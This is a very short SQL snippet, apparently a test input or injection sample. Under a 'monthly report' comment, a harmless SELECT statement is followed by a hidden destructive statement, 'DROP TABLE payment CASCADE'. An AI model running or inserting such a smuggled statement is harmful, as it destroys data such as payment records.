/* monthly report */ SELECT 1; -- trailing note
DROP TABLE payment CASCADE